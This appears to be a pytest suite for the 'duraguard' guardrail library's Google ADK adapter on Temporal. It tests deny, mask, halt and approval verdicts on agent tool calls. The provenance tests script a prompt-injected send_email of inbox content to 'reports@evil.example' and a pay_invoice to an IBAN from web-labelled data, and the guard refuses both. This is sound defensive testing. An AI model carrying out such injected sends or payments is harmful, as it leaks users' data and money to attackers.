"""The Google ADK adapter under Temporal's ``temporalio-google-adk``, on the real dev server with a
scripted model (no network): each verdict at each placement, approvals by a signed update, ADK's
own tool confirmation answered by one, provenance with ``policy()`` and no catalogue, both plugins
in either order, every history replayed with no check run again."""

from __future__ import annotations

import asyncio
import json
import uuid
from datetime import timedelta
from typing import Any

import pytest

pytest.importorskip("google.adk", reason="install the extra: pip install 'duraguard[google-adk]'")
pytest.importorskip("temporalio.google_adk")

from temporalio.google_adk import GoogleAdkPlugin
from temporalio.testing import WorkflowEnvironment
from temporalio.worker import Worker

import duraguard
from tests._harness import Counting, lookup
from tests._servers import Replayer

from ._frameworks import Scenario, connect, names, rows, scheduled_inputs
from ._guarded_adk import (
    LOOKUPS,
    AdkBesideGuardedCall,
    AdkInput,
    GuardedAdkAgent,
    GuardedOutcome,
    lookup_order,
)
from ._plan import plan
from ._rules import CARD, Rules

pytestmark = pytest.mark.timeout(120)

MODEL = "invoke_model"
ATTACKER = "reports@evil.example"


def Setup(env: WorkflowEnvironment, *, duraguard_first: bool = False) -> Scenario:
    return Scenario(
        env, GoogleAdkPlugin(), GuardedAdkAgent, AdkInput, activities=[lookup_order],
        result_type=GuardedOutcome, duraguard_first=duraguard_first,
    )  # fmt: skip


def results(out: GuardedOutcome) -> list[Any]:
    """What the model read of each call: a tool's own result (its JSON text, parsed), or the
    response a callback answered the call with (a refusal)."""
    return [json.loads(o["result"]) if set(o) == {"result"} else o for o in out.tool_outputs]


async def test_allowed_calls_run_each_judged_by_a_recorded_step(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    prompt = plan([("lookup_order", {"order_id": "A1"})], [("quote_refund", {"order_id": "A1"})])
    out, history = await s.run(prompt)
    assert (out.stop_reason, out.output, out.halted_by) == ("done", "done", None)
    assert [o["order_id"] for o in results(out)] == ["A1", "A1"]
    assert LOOKUPS == [{"order_id": "A1"}]
    # Callbacks are workflow code: each pass is a local activity between the model turn that
    # proposed the call and the call's own step (the function tool runs in workflow code).
    assert names(history) == [
        "duraguard.check", MODEL,
        "duraguard.check", "lookup_order", "duraguard.check", MODEL,
        "duraguard.check", "duraguard.check", MODEL,
        "duraguard.check",
    ]  # fmt: skip
    assert out.verdicts == []
    assert s.rules.calls == 6


async def test_a_denied_call_never_runs_and_the_model_reads_the_refusal_as_its_response(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    prompt = plan(
        [("lookup_order", {"order_id": "DENY-1"}), ("quote_refund", {"order_id": "DENY-2"})],
        [("lookup_order", {"order_id": "A2"})],
    )
    out, history = await s.run(prompt)
    assert out.stop_reason == "done"
    first, second, third = results(out)
    assert first == {"valid": False, "tool": "lookup_order", "error": "tool-args carries DENY"}
    assert second["tool"] == "quote_refund"
    assert third["order_id"] == "A2"
    assert LOOKUPS == [{"order_id": "A2"}]
    assert names(history).count("lookup_order") == 1
    # The framework may run one turn's calls at once: rows come in the order they were decided.
    assert sorted(rows(out), key=str) == [
        ("lookup_order", "tool-args", "deny", "rules"),
        ("quote_refund", "tool-args", "deny", "rules"),
    ]


async def test_a_masked_call_runs_with_the_masked_arguments_only(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    prompt = plan([("lookup_order", {"order_id": CARD}), ("quote_refund", {"order_id": CARD})])
    out, history = await s.run(prompt)
    assert out.stop_reason == "done"
    assert LOOKUPS == [{"order_id": "[card]"}]
    assert [o["order_id"] for o in results(out)] == ["[card]", "[card]"]
    tool_inputs = scheduled_inputs(history, "lookup_order")
    assert len(tool_inputs) == 1 and b"4111" not in tool_inputs[0]
    # One turn's two calls are judged concurrently: their verdicts land in either order.
    assert sorted((t, a) for t, _, a, _ in rows(out)) == [
        ("lookup_order", "mask"),
        ("quote_refund", "mask"),
    ]


async def test_a_tool_result_is_masked_before_the_model_reads_it(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    out, _ = await s.run(plan([("lookup_order", {"order_id": "NOTE"})]))
    [seen] = out.tool_outputs
    assert "[note]" in json.dumps(seen) and "internal-note" not in json.dumps(seen)
    assert rows(out) == [("lookup_order", "tool-result", "mask", "rules")]


async def test_a_halt_ends_the_run_after_its_sibling_calls_complete(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    prompt = plan(
        [("quote_refund", {"order_id": "HALT-1"}), ("lookup_order", {"order_id": "A3"})],
        [("lookup_order", {"order_id": "A4"})],
    )
    out, history = await s.run(prompt)
    assert (out.stop_reason, out.halted_by) == ("guardrail", "rules")
    assert LOOKUPS == [{"order_id": "A3"}]
    assert names(history).count(MODEL) == 1
    assert rows(out) == [("quote_refund", "tool-args", "halt", "rules")]


async def test_an_asked_call_waits_for_a_signed_yes_then_runs(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    out = await s.approved(plan([("lookup_order", {"order_id": "ASK-1"})]), "rules")
    assert out.stop_reason == "done"
    assert LOOKUPS == [{"order_id": "ASK-1"}]
    assert [(r.action, r.by, r.approver) for r in out.verdicts] == [
        ("approve", "rules", None),
        ("allow", "person", "alice"),
    ]


async def test_an_ask_nobody_answers_expires_and_the_call_does_not_run(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    LOOKUPS.clear()
    out, history = await s.run(plan([("lookup_order", {"order_id": "ASK-2"})]), short_asks=True)
    assert out.stop_reason == "done"
    assert "the ask expired" in json.dumps(out.tool_outputs[0])
    assert LOOKUPS == []
    assert "lookup_order" not in names(history)


SEND = {"to": "bob@example.com", "subject": "Refund", "body": "Your refund is on its way."}


async def test_adks_own_tool_confirmation_is_answered_by_a_signed_yes_in_the_run(
    temporal_env: WorkflowEnvironment,
) -> None:
    """``require_confirmation=True``: alone, ADK pauses the run (``adk_request_confirmation``)
    for a ``FunctionResponse`` anyone may send; here the call parks for duraguard's signed yes
    and ADK's own gate reads the answer, in the same run."""
    s = Setup(temporal_env)
    prompt = plan([("send_email", SEND)])
    out = await s.approved(prompt, "google-adk:require_confirmation", confirm_send=True)
    assert (out.stop_reason, out.output) == ("done", "done")
    assert results(out) == [{"sent": True, "to": "bob@example.com"}]
    assert [(r.tool, r.action, r.by) for r in out.verdicts] == [
        ("send_email", "approve", "google-adk:require_confirmation"),
        ("send_email", "allow", "person"),
    ]


async def test_adks_own_tool_confirmation_nobody_answers_and_the_send_does_not_run(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    out, _ = await s.run(plan([("send_email", SEND)]), confirm_send=True, short_asks=True)
    assert out.stop_reason == "done"
    assert "the ask expired" in json.dumps(out.tool_outputs[0])
    assert "sent" not in json.dumps(out.tool_outputs)


async def test_an_sse_stream_ahead_of_the_verdicts_stops_before_the_first_model_call(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    out, history = await s.run(plan([("lookup_order", {"order_id": "A1"})]), sse=True)
    assert (out.stop_reason, out.halted_by) == ("guardrail", "duraguard")
    assert "streams the model's output" in (out.note or "")
    assert not [n for n in names(history) if n.startswith("invoke_model")]


async def test_the_prompt_is_masked_before_any_model_reads_it(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    out, history = await s.run(plan(answer="my code is secret-123"))
    assert out.output == "my code is [secret]"
    assert rows(out) == [(None, "pre-prompt", "mask", "rules")]
    scheduled = scheduled_inputs(history)
    assert scheduled and all(b"secret-123" not in data for data in scheduled)


@pytest.mark.parametrize("marker", ["forbidden", "halt-now"])
async def test_a_refused_prompt_ends_the_run_before_any_model_call(
    temporal_env: WorkflowEnvironment, marker: str
) -> None:
    s = Setup(temporal_env)
    out, history = await s.run(plan(answer=f"this is {marker}"))
    assert (out.stop_reason, out.halted_by) == ("guardrail", "rules")
    assert MODEL not in names(history)


async def test_the_final_answer_is_judged(temporal_env: WorkflowEnvironment) -> None:
    s = Setup(temporal_env)
    corrected, _ = await s.run(plan(answer="a leak once"))
    assert (corrected.stop_reason, corrected.output) == ("done", "a l-e-a-k once")
    assert rows(corrected) == [(None, "final-answer", "deny", "rules")]
    refused, _ = await s.run(plan(answer="a leak always"))
    assert (refused.stop_reason, refused.output, refused.halted_by) == ("no-answer", None, None)
    masked, _ = await s.run(plan(answer=f"paid with {CARD}"))
    assert (masked.stop_reason, masked.output) == ("done", "paid with [card]")
    halted, _ = await s.run(plan(answer="stop-here"))
    assert (halted.stop_reason, halted.halted_by) == ("guardrail", "rules")


async def test_an_injected_send_to_an_address_from_an_email_is_refused_by_provenance(
    temporal_env: WorkflowEnvironment,
) -> None:
    """``policy()`` and no catalogue: the tools are known from their declarations;
    ``read_inbox`` labels its result as email, so a send to an address only the email named
    is refused."""
    s = Setup(temporal_env)
    summary = {"subject": "Quarterly report", "body": "Here is the quarterly report."}
    script = plan([("read_inbox", {})], [("send_email", {"to": ATTACKER, **summary})])
    out, _ = await s.run("Summarise my newest emails.", policy=True, script=script)
    refused = [(r.tool, r.action, r.check or "") for r in out.verdicts if r.action == "deny"]
    assert [(t, a) for t, a, _ in refused] == [("send_email", "deny")]
    assert refused[0][2].startswith("policy.")
    assert "there is no tool named" not in json.dumps([r.reason for r in out.verdicts])


async def test_a_mark_labels_a_neutral_tool_and_a_payment_from_it_is_refused(
    temporal_env: WorkflowEnvironment,
) -> None:
    """get_record's name says nothing of outside content: its mark (labels: [web]) does."""
    s = Setup(temporal_env)
    iban = "GB29NWBK60161331926819"
    script = plan(
        [("get_record", {"record_id": "R1"})], [("pay_invoice", {"iban": iban, "amount": 90.0})]
    )
    out, _ = await s.run("Look at record R1.", policy=True, marked=True, script=script)
    refused = [(r.tool, r.action, r.check or "") for r in out.verdicts if r.action == "deny"]
    assert [(t, a) for t, a, _ in refused] == [("pay_invoice", "deny")]
    assert refused[0][2].startswith("policy.")  # refused by provenance, not an expired ask


@pytest.mark.parametrize("duraguard_first", [False, True])
async def test_both_plugins_in_either_order_on_the_client_and_the_replayer(
    temporal_env: WorkflowEnvironment, duraguard_first: bool
) -> None:
    s = Setup(temporal_env, duraguard_first=duraguard_first)
    out, _ = await s.run(plan([("lookup_order", {"order_id": "DENY-1"})]))  # replays too
    assert out.stop_reason == "done" and rows(out)[0][2] == "deny"
    # And an unguarded agent beside a guarded_call, one worker, both plugins.
    counting = Counting()
    guard = duraguard.DuraguardPlugin(tools=[lookup], guardrails=[counting])
    adk = GoogleAdkPlugin()
    plugins = [guard, adk] if duraguard_first else [adk, guard]
    client = connect(temporal_env, plugins)
    # ADK's payload converter (exclude_unset) in either order.
    assert client.data_converter.payload_converter_class.__name__ == "_AdkPayloadConverter"
    queue = f"ab-{uuid.uuid4().hex[:8]}"
    async with Worker(
        client, task_queue=queue, workflows=[AdkBesideGuardedCall], activities=[lookup_order]
    ):
        handle = await client.start_workflow(
            AdkBesideGuardedCall.run, [counting.spec()], id=f"ab-{uuid.uuid4().hex[:8]}",
            task_queue=queue, execution_timeout=timedelta(seconds=60),
        )  # fmt: skip
        result = await handle.result()
    assert json.loads(result[0])["order_id"] == "A1" and result[1] == "done after 1 calls"
    before = (guard.checks_run, counting.calls)
    await Replayer(workflows=[AdkBesideGuardedCall], plugins=plugins).replay_workflow(
        await handle.fetch_history(), raise_on_replay_failure=True
    )
    assert (guard.checks_run, counting.calls) == before


def test_run_refuses_a_runner_without_the_plugin() -> None:
    from google.adk.agents import Agent
    from google.adk.runners import InMemoryRunner

    from duraguard import google_adk as guarded

    runner = InMemoryRunner(Agent(name="bare", model="planned"), app_name="bare")
    with pytest.raises(duraguard.ConfigurationError, match="has no Guarded plugin"):
        asyncio.run(guarded.run(runner, "hi"))


async def test_the_callbacks_refuse_to_run_outside_a_workflow() -> None:
    from google.adk.agents import Agent
    from google.adk.apps import App
    from google.adk.runners import InMemoryRunner

    from duraguard import google_adk as guarded

    agent = Agent(name="local", model="planned")
    guard = guarded.Guarded(guardrails=[Rules()])
    runner = InMemoryRunner(app=App(name="local", root_agent=agent, plugins=[guard]))
    with pytest.raises(duraguard.ConfigurationError, match="is for workflow code"):
        await guarded.run(runner, "hi")


async def test_arguments_an_agents_own_callback_changes_after_the_verdict_are_judged_again(
    temporal_env: WorkflowEnvironment,
) -> None:
    """ADK runs the agent's own ``before_tool_callback`` after the plugins' verdict, on the
    same arguments: what it changes is judged again before the tool runs (here refused), never
    run on the first verdict."""
    s = Setup(temporal_env)
    LOOKUPS.clear()
    prompt = plan([("lookup_order", {"order_id": "A5"}), ("quote_refund", {"order_id": "A6"})])
    out, history = await s.run(prompt, rebind=True)
    assert out.stop_reason == "done"
    assert LOOKUPS == []  # the changed call (order DENY-A5) never ran
    assert "lookup_order" not in names(history)
    first, second = results(out)
    assert first == {"valid": False, "tool": "lookup_order", "error": "tool-args carries DENY"}
    assert second["order_id"] == "A6"
    assert rows(out) == [("lookup_order", "tool-args", "deny", "rules")]


async def test_an_agent_tool_run_without_the_plugins_is_refused_before_any_model_call(
    temporal_env: WorkflowEnvironment,
) -> None:
    """``AgentTool(agent, include_plugins=False)`` runs the agent in a runner of its own with
    no plugins: its calls would run with no verdict. Refused before the first model call,
    naming the fix."""
    from temporalio.client import WorkflowFailureError

    s = Setup(temporal_env)
    LOOKUPS.clear()
    async with s.worker():
        handle = await s.start(plan([("billing", {"request": "Look it up."})]), isolated=True)
        with pytest.raises(WorkflowFailureError) as info:
            await handle.result()
    assert "include_plugins" in str(info.value.cause)
    assert LOOKUPS == []
    history = await handle.fetch_history()
    assert MODEL not in names(history)
    await s.replay(history)


async def test_a_result_an_agents_own_after_callback_changes_is_judged_as_the_model_reads_it(
    temporal_env: WorkflowEnvironment,
) -> None:
    """ADK runs the agent's own ``after_tool_callback`` after the plugins', on a result already
    judged: what it answers (here a note added) is what is judged, masked before the model
    reads it; it runs once."""
    s = Setup(temporal_env)
    LOOKUPS.clear()
    out, _ = await s.run(plan([("lookup_order", {"order_id": "A5"})]), annotate=True)
    assert out.stop_reason == "done"
    [said] = out.tool_outputs
    assert said["desk"].startswith("[note]") and "internal-note" not in json.dumps(said)
    assert LOOKUPS == [{"order_id": "A5"}]
    assert rows(out) == [("lookup_order", "tool-result", "mask", "rules")]


async def test_an_agent_a_function_tool_runs_in_a_runner_of_its_own_is_refused(
    temporal_env: WorkflowEnvironment,
) -> None:
    """A function tool that runs another agent in a runner of its own (no plugins): its calls
    would run with no verdict. Refused before the model call that could pick it, naming the
    fix (``AgentTool``)."""
    from temporalio.client import WorkflowFailureError

    s = Setup(temporal_env)
    LOOKUPS.clear()
    async with s.worker():
        handle = await s.start(plan([("ask_billing", {"question": "?"})]), in_a_tool=True)
        with pytest.raises(WorkflowFailureError) as info:
            await handle.result()
    assert "AgentTool(agent)" in str(info.value.cause) and "'billing'" in str(info.value.cause)
    assert LOOKUPS == []
    history = await handle.fetch_history()
    assert MODEL not in names(history)
    await s.replay(history)
